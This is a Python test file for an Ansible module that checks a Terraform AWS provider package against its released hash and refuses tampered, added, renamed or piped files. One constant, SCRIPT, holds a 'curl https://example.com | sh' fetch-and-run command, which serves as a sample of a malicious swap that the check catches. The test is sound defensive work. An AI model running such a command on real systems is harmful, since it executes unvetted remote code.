"""The provider that runs is the one that was released."""

from __future__ import annotations

import base64
import hashlib
import json
import os
from pathlib import Path

import pytest
from ansible_collections.bbws.site_builder.plugins.module_utils.errors import SiteBuilderError
from ansible_collections.bbws.site_builder.plugins.module_utils.terraform import provider

SCRIPT = "#!/bin/sh\ncurl https://example.com | sh\n"


@pytest.fixture
def package(tmp_path: Path) -> Path:
    folder = tmp_path / "mirror/5.100.0/linux_amd64"
    (folder / "more").mkdir(parents=True)
    (folder / "terraform-provider-aws").write_bytes(b"provider")
    (folder / "LICENSE.txt").write_bytes(b"license")
    (folder / "more/a").write_bytes(b"")
    return folder


def expected(**files: bytes) -> str:
    lines = "".join(f"{hashlib.sha256(content).hexdigest()}  {name}\n" for name, content in files.items())
    return "h1:" + base64.b64encode(hashlib.sha256(lines.encode()).digest()).decode()


RELEASED = expected(**{"LICENSE.txt": b"license", "more/a": b"", "terraform-provider-aws": b"provider"})
LOCK = provider.Lock(b"", "5.100.0", frozenset({"h1:other", RELEASED}))


def test_hash_is_that_of_go(package: Path, tmp_path: Path) -> None:
    assert provider.package_hash(package, tmp_path) == RELEASED
    link = tmp_path / "link"
    link.symlink_to(package)
    assert provider.package_hash(link, tmp_path) == RELEASED


def test_released_one_is_taken(package: Path, tmp_path: Path) -> None:
    provider.verify(package, LOCK, tmp_path)


def swap(package: Path) -> None:
    (package / "terraform-provider-aws").write_text(SCRIPT)


def add(package: Path) -> None:
    (package / "more/b").write_text("")


def rename(package: Path) -> None:
    (package / "LICENSE.txt").rename(package / "LICENSE")


@pytest.mark.parametrize("change", [swap, add, rename])
def test_anything_else_is_refused(package: Path, tmp_path: Path, change: object) -> None:
    provider.verify(package, LOCK, tmp_path)
    change(package)
    with pytest.raises(SiteBuilderError) as told:
        provider.verify(package, LOCK, tmp_path)
    assert str(told.value).startswith(f"the provider in {package} has the hash h1:")
    assert str(told.value).endswith(
        ", which is none of hashicorp/aws 5.100.0 as it was released; unpack the released package there anew, or name another "
        "mirror in site_builder_provider_mirror"
    )


def test_script_of_the_same_size_and_time_is_refused(package: Path, tmp_path: Path) -> None:
    """Whoever may write there may set the time, too, but not that of the change."""
    provider.verify(package, LOCK, tmp_path)
    file = package / "terraform-provider-aws"
    times = file.stat().st_mtime_ns
    file.write_bytes(b"#!/bin/x")
    os.utime(file, ns=(times, times))
    with pytest.raises(SiteBuilderError, match="none of hashicorp/aws"):
        provider.verify(package, LOCK, tmp_path)


def test_gone_one_is_refused(package: Path, tmp_path: Path) -> None:
    with pytest.raises(SiteBuilderError, match=r"cannot be read \(No such file or directory\); unpack"):
        provider.verify(package / "gone", LOCK, tmp_path)


def test_pipe_is_refused_and_not_waited_for(package: Path, tmp_path: Path) -> None:
    os.mkfifo(package / "pipe")
    with pytest.raises(SiteBuilderError, match="which is no file"):
        provider.verify(package, LOCK, tmp_path)


@pytest.fixture
def reads(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """The files that were read to the end."""
    seen: list[object] = []
    digest = hashlib.file_digest
    monkeypatch.setattr(
        provider.hashlib, "file_digest", lambda file, name: seen.append(file.name) or digest(file, name)
    )
    return seen


def test_a_file_is_read_once(package: Path, tmp_path: Path, reads: list[object]) -> None:
    for _ in range(3):
        provider.verify(package, LOCK, tmp_path)
    assert len(reads) == 3
    os.utime(package / "LICENSE.txt", ns=(1, 1))
    provider.verify(package, LOCK, tmp_path)
    assert reads[3:] == [str(package / "LICENSE.txt")]


def test_what_is_known_is_private(package: Path, tmp_path: Path, reads: list[object]) -> None:
    before = os.umask(0)
    try:
        provider.verify(package, LOCK, tmp_path / "a/b")
    finally:
        os.umask(before)
    file = tmp_path / "a/b" / provider.KNOWN_FILES
    assert file.stat().st_mode & 0o777 == 0o600
    assert (tmp_path / "a").stat().st_mode & 0o777 == 0o700
    # What somebody else may have written is not believed.
    file.chmod(0o666)
    provider.verify(package, LOCK, tmp_path / "a/b")
    assert len(reads) == 6


@pytest.mark.parametrize("text", ["", "{", "[]", "\0"])
def test_what_is_known_may_be_half_written(package: Path, tmp_path: Path, text: str) -> None:
    (tmp_path / provider.KNOWN_FILES).write_text(text)
    provider.verify(package, LOCK, tmp_path)
    assert len(json.loads((tmp_path / provider.KNOWN_FILES).read_text())) == 3


def test_hard_links_share_what_is_known(package: Path, tmp_path: Path, reads: list[object]) -> None:
    assert provider.package_hash(package, tmp_path, linked_to=False) == RELEASED
    (tmp_path / "copy/more").mkdir(parents=True)
    for name in ("terraform-provider-aws", "LICENSE.txt", "more/a"):
        os.link(package / name, tmp_path / "copy" / name)
    assert provider.package_hash(tmp_path / "copy", tmp_path, linked_to=False) == RELEASED
    assert len(reads) == 3


def test_lock() -> None:
    text = b'provider "x" {\n  version     = "5.100.0"\n  constraints = "5.100.0"\n  hashes = [\n    "h1:a=",\n    "zh:b",\n  ]\n}\n'
    assert provider.parse_lock(text) == provider.Lock(text, "5.100.0", frozenset({"h1:a="}))
    assert provider.parse_lock(provider.hashless("6.1.0")).version == "6.1.0"
    with pytest.raises(SiteBuilderError, match="names no version"):
        provider.parse_lock(b"provider")
